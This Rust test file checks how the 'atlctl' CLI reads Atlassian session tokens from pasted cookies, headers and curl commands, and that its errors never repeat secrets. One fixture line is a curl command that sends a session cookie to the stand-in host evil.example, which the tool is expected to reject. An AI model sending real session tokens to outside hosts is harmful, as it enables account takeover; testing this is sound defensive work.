//! A credential in whatever it was copied with, wherever one is read; and what is no file is not said again.

use atlctl_sim::SimConfig;

use crate::common::{Place, chmod};

/// What people copy a session with.
fn copies(token: &str) -> [String; 5] {
    [
        format!("cloud.session.token={token}\n"),
        format!("Cookie: a=1; cloud.session.token={token}; b=2\r\n"),
        format!("Set-Cookie: cloud.session.token={token}; Path=/; Secure"),
        format!("\"cloud.session.token={token}\""),
        format!("curl 'https://admin.atlassian.com/x' -b 'cloud.session.token={token}'"),
    ]
}

#[test]
fn a_session_is_found_in_its_copy() {
    let mut place = Place::new(SimConfig::default());
    let status = ["auth", "status", "--columns", "works,credentials"];
    for text in copies(&place.sim.session_token()) {
        let path = place.env.file("secret", &text);
        chmod(&path, 0o600);
        let by_file = [&status[..], &["--credential", path.to_str().unwrap()]].concat();
        let by_stdin = [&status[..], &["--credential", "-"]].concat();
        place.env.file(
            ".config/atlctl/config.toml",
            format!("[profile.default]\ntoken_command = [\"cat\", {path:?}]\n"),
        );
        for output in [
            place.run(&by_file),
            place.run_with(&by_stdin, &text),
            place.run(&status),
        ] {
            assert_eq!(output.code, 0, "{text}: {output}");
            assert!(output.stdout.contains("session"), "{text}: {output}");
        }
        let login = ["auth", "login", "--token-stdin", "--store", "none"];
        place.run_with(&login, &text).expect(0);
        place.env.file(".config/atlctl/config.toml", "");
        place.env.var("ATLCTL_SESSION_TOKEN", &text);
        place.run(&status).expect(0);
        place.env.var("ATLCTL_SESSION_TOKEN", "");
    }
}

#[test]
fn a_copy_of_another_host_is_none() {
    let place = Place::new(SimConfig::default());
    let text = "curl https://evil.example -b 'cloud.session.token=canary.canary.canary'";
    insta::assert_snapshot!(place.run_with(&["auth", "status", "--credential", "-"], text), @"
    ------- stderr -------
    Error: standard input contains no credential
      Caused by: the input has no request to Atlassian, only to other hosts
    Hint: it must contain a session token, alone or in a copied request, or an organization API key
    [exit status: 2]
    ");
    insta::assert_snapshot!(place.run_with(&["auth", "login", "--token-stdin", "--store", "none"], text), @"
    ------- stderr -------
    Error: no session token on standard input: the input has no request to Atlassian, only to other hosts
    Hint: copy a request to admin.atlassian.com instead
    [exit status: 2]
    ");
}

/// However short: it may have been typed in the place of a file.
#[test]
fn what_is_no_file_is_not_repeated() {
    let place = Place::new(SimConfig::default());
    for secret in [
        "hunter2",
        "s3cr3t/hunter2",
        "hunter2.txt",
        "~hunter2",
        "hunter2\n",
    ] {
        for args in [
            vec!["user", "list", "--credential", secret],
            vec!["auth", "login", "--capture", secret, "--store", "file"],
            vec!["auth", "status", "--credential", secret, "-o", "json"],
        ] {
            let output = place.run(&args);
            assert_eq!(output.code, 2, "{output}");
            assert!(!format!("{output}").contains("hunter2"), "{output}");
        }
        let glued = format!("--credential={secret}");
        let output = place.run(&["sync", &glued]);
        assert!(!format!("{output}").contains("hunter2"), "{output}");
    }
    insta::assert_snapshot!(place.run(&["user", "list", "--credential", "hunter2"]), @"
    ------- stderr -------
    Error: cannot read the file given to --credential (its name is not repeated here, since it may be a secret)
      Caused by: no such file or directory
    Hint: --credential takes the name of a file that exists, not the secret itself: --credential ./key.txt, with a session token or an API key (- reads standard input)
    [exit status: 2]
    ");
}

/// The address of a page is no credential, whatever its query holds. Nothing of it is repeated.
#[test]
fn an_address_of_a_page_is_named_as_one() {
    let place = Place::new(SimConfig::default());
    let login = |option: &'static str, text: &str| {
        let mut command = vec!["auth", "login", "--store", "none", option];
        command.extend((option == "--capture").then_some("-"));
        place.run_with(&command, text)
    };
    let token = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJjYW5hcnkifQ.canary";
    let address = format!("https://admin.atlassian.com/o/canary/overview?token={token}");
    insta::assert_snapshot!(login("--token-stdin", &address), @"
    ------- stderr -------
    Error: no session token on standard input: this is a web address (URL), not a credential
    Hint: in the admin portal, open the developer tools, choose Network, reload, right-click a request to admin.atlassian.com and choose Copy as cURL
    [exit status: 2]
    ");
    insta::assert_snapshot!(login("--capture", &address), @"
    ------- stderr -------
    Error: no session found in standard input: this is a web address (URL), not a credential
    Hint: in the admin portal, open the developer tools, choose Network, reload, right-click a request to admin.atlassian.com and choose Copy as cURL
    [exit status: 2]
    ");
    insta::assert_snapshot!(login("--api-key-stdin", &address), @"
    ------- stderr -------
    Error: no API key on standard input: this is a web address (URL), not a credential
    Hint: copy it again, as described in: atlctl auth login --help
    [exit status: 2]
    ");
    let status = ["auth", "status", "--credential", "-"];
    insta::assert_snapshot!(place.run_with(&status, &address), @"
    ------- stderr -------
    Error: standard input contains no credential
      Caused by: this is a web address (URL), not a credential
    Hint: it must contain a session token, alone or in a copied request, or an organization API key
    [exit status: 2]
    ");
    let bare = address.trim_start_matches("https://");
    for text in [
        bare.to_owned(),
        format!("<{address}>"),
        format!("[portal]({address})"),
        format!("https%3A%2F%2F{bare}"),
        format!(
            "https://id.atlassian.com/login?continue=https%3A%2F%2Fadmin.atlassian.com%2F%3Ftoken%3D{token}"
        ),
        format!("https://admin.atlassian.com/?cloud.session.token={token}"),
    ] {
        let output = login("--token-stdin", &text);
        assert!(!output.to_string().contains("canary"), "{output}");
        assert!(output.stderr.contains("web address"), "{text}: {output}");
    }
}
